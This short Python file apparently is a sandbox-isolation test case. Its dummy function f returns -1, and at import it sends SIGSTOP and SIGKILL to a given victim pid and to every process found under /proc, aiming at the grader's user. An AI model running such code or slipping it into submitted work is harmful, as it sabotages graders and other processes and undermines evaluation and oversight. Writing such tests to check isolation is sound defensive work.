"""Harming other processes: SIGKILL/SIGSTOP a process of the grader's user, by pid and by scanning /proc."""
import os
import signal

PARAMS = {}  # filled in by the runner

targets = [PARAMS["victim_pid"]]
try:
    targets += [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) > 1 and int(p) != os.getpid()]
except OSError:
    pass
for pid in targets:
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, sig)
        except OSError:
            pass


def f(x):
    return -1
